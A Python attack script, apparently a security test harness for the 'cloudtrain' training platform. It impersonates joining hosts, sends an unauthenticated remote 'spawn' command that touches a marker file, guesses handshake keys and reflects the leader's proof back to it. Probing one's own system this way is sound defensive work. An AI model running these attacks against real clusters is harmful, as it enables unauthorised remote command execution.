"""Attacks a job from its network: joins as its hosts, before they do, and gives commands to their neighbours.

    python impostor.py HOST:PORT

Prints everything that the leader sends.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import time
from functools import partial

from cloudtrain.errors import PlatformError
from cloudtrain.link import handshake

COMMAND = {"type": "spawn", "token": "", "host_rank": 1, "command": "touch /var/tmp/taken"}
JOINS = [{"type": "join", "host": host, "token": ""} for host in ("n1", "n2")]


def tell(connection: socket.socket, message: object) -> None:
    """Speak as hosts did before they had a secret."""
    connection.sendall(json.dumps(message).encode() + b"\n")
    print("received", connection.recv(1000), flush=True)


def guess(connection: socket.socket, purpose: str) -> None:
    """Prove itself with another key."""
    with contextlib.suppress(PlatformError):
        handshake.prove(connection, os.urandom(32), purpose, time.monotonic() + 2)
        print("admitted", flush=True)


def reflect(connection: socket.socket) -> None:
    """Send the leader's own proof back to it."""
    connection.sendall(handshake.MAGIC + b"spawn".ljust(8, b"\0") + bytes(32))
    connection.sendall(connection.recv(64)[32:])
    print("received", connection.recv(1000), flush=True)


ATTACKS = [
    *(partial(tell, message=message) for message in (*JOINS, COMMAND)),
    *(partial(guess, purpose=purpose) for purpose in ("control", "spawn")),
    reflect,
]


def main(host: str, port: int) -> None:
    while True:
        reached = 0
        for attack in ATTACKS:
            with (
                contextlib.suppress(OSError),
                socket.create_connection((host, port), timeout=2) as connection,
            ):
                reached += 1
                attack(connection)
        if reached == len(ATTACKS):
            print("tried", flush=True)


if __name__ == "__main__":
    address, _, number = sys.argv[1].rpartition(":")
    main(address, int(number))
